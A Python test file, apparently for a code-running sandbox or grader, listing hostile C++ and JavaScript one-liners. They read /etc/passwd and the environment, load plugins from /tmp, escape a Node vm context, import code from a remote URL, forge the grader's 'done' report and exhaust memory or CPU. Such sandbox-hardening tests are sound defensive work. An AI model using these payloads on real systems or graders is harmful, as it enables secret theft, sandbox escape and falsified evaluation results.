"""Sources that attack the C++ compiler or JavaScript's engine, or how their output is judged: none prints 4 for 3."""

# ruff: noqa: E501 - programs on one line

_MAIN = "\nint main() { return 0; }"

CPP = {
    "includes itself": '#include __FILE__\n#include "/dev/stdin"' + _MAIN,
    "includes the zero device": '#include "/dev/zero"' + _MAIN,
    "includes users": '#include "/etc/passwd"' + _MAIN,
    "includes the environment": '#include "/proc/self/environ"' + _MAIN,
    "asks for files": '#if __has_include("/etc/passwd")\n#include <cstdio>\nint main() { puts("4"); }\n#else\nint main() {}\n#endif',
    "assembles a file": '#include <cstdio>\nasm(".global secret\\nsecret: .incbin \\"/etc/passwd\\"");\nextern char secret[];\nint main() { puts(secret); }',
    "assembles the zero device": 'asm(".incbin \\"/dev/zero\\"");' + _MAIN,
    "assembler that repeats": 'asm(".rept 1000000000\\n.quad 1\\n.endr");' + _MAIN,
    "templates without end": "template <int N> struct A { typedef typename A<N + 1>::T T; };\nA<0>::T x;" + _MAIN,
    "templates that double": "template <class A, class B> struct P {};\ntemplate <int N> struct D { typedef P<typename D<N - 1>::T, P<typename D<N - 1>::T, int>> T; };\ntemplate <> struct D<0> { typedef int T; };\nD<40>::T x;" + _MAIN,
    "constexpr without end": "constexpr int f() { int n = 0; for (;;) n ^= 1; return n; }\nconstexpr int x = f();" + _MAIN,
    "macros that double": "#define A x x x x x x x x\n#define B A A A A A A A A\n#define C B B B B B B B B\n#define D C C C C C C C C\n#define E D D D D D D D D\n#define F E E E E E E E E\nint x; void f() { F F F F F F F F; }" + _MAIN,
    "an image of many gigabytes": "char all[1LL << 34] = {1};" + _MAIN,
    "a stack of many gigabytes": "int main() { volatile char all[1LL << 34]; all[0] = 4; return all[0]; }",
    "brackets": "int x = " + "(" * 20000 + "1" + ")" * 20000 + ";" + _MAIN,
    "a plugin": "#pragma GCC plugin(\"evil\")\n#pragma GCC optimize(\"plugin=/tmp/evil.so\")\n#error stop" + _MAIN,
    "linker options": '__attribute__((section(".note.GNU-stack,\\"ax\\",@progbits\\n.incbin \\"/etc/passwd\\"#"))) int x = 1;' + _MAIN,
    "before main": "#include <unistd.h>\n__attribute__((constructor)) void first() { write(3, \"[\\\"done\\\"]\\n\", 9); _exit(0); }" + _MAIN,
    "forged report": "#include <unistd.h>\nint main() { for (int d = 3; d < 64; d++) write(d, \"[\\\"done\\\"]\\n\", 9); }",
    "embeds a file": 'const unsigned char all[] = {\n#embed "/etc/passwd"\n};\n#include <cstdio>\nint main() { fwrite(all, 1, sizeof all, stdout); }',
    "a null character": "int main() { return 0; }\0#include <cstdio>",
}  # fmt: skip

JAVASCRIPT = {
    "prints by the engine's own binding": "process.binding('fs').writeString(3, '[\"done\"]\\n');",
    "out of a new context": "const p = require('vm').runInNewContext('this.constructor.constructor(\"return process\")()'); p.kill(p.ppid, 9); console.log(require('fs').readFileSync('/etc/passwd', 'utf8'));",
    "a shared library": "process.dlopen({exports: {}}, '/tmp/a.node');",
    "internal binding": "process._linkedBinding('fs'); process.binding('process_wrap');",
    "another program's source": "require('fs').readSync(5, Buffer.alloc(10)); console.log(require('fs').readFileSync('/proc/self/fd/4', 'utf8'));",
    "a module from a stranger": "import('data:text/javascript,console.log(4)').catch(() => {}); import('https://example.com/x.js');",
    "compiles without end": "for (;;) new Function('x', 'return x' + Math.random());",
    "regular expression without end": "/(a+)+b/.test('a'.repeat(40));",
    "text without end": "let s = 'x'; for (;;) s += s;",
    "typed arrays without end": "const all = []; for (;;) all.push(new Float64Array(1e7).fill(1));",
    "web assembly": "const m = new WebAssembly.Memory({initial: 65536, maximum: 65536}); new Uint8Array(m.buffer).fill(1);",
    "shared memory and waiting": "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);",
    "a worker": "const {Worker} = require('worker_threads'); new Worker('console.log(5)', {eval: true}).on('error', () => process.exit(1));",
    "an inspector": "require('inspector').open(9229, '127.0.0.1', true);",
    "patched prototypes": "Object.prototype.toString = () => '4'; Array.prototype.join = () => '4'; process.stdout.write = () => true; console.log('4');",
    "exit that lies": "process.reallyExit(0);",
    "abort": "process.abort();",
    "a heap snapshot": "require('v8').writeHeapSnapshot('/tmp/snapshot'); ",
    "engine flags": "require('v8').setFlagsFromString('--allow-natives-syntax'); eval('%SystemBreak()');",
    "uncaught promise": "Promise.reject(new Error('4'));",
    "deep nesting": "eval('['.repeat(1e6));",
    "a report of its own": "process.report.writeReport('/tmp/report.json');",
}  # fmt: skip
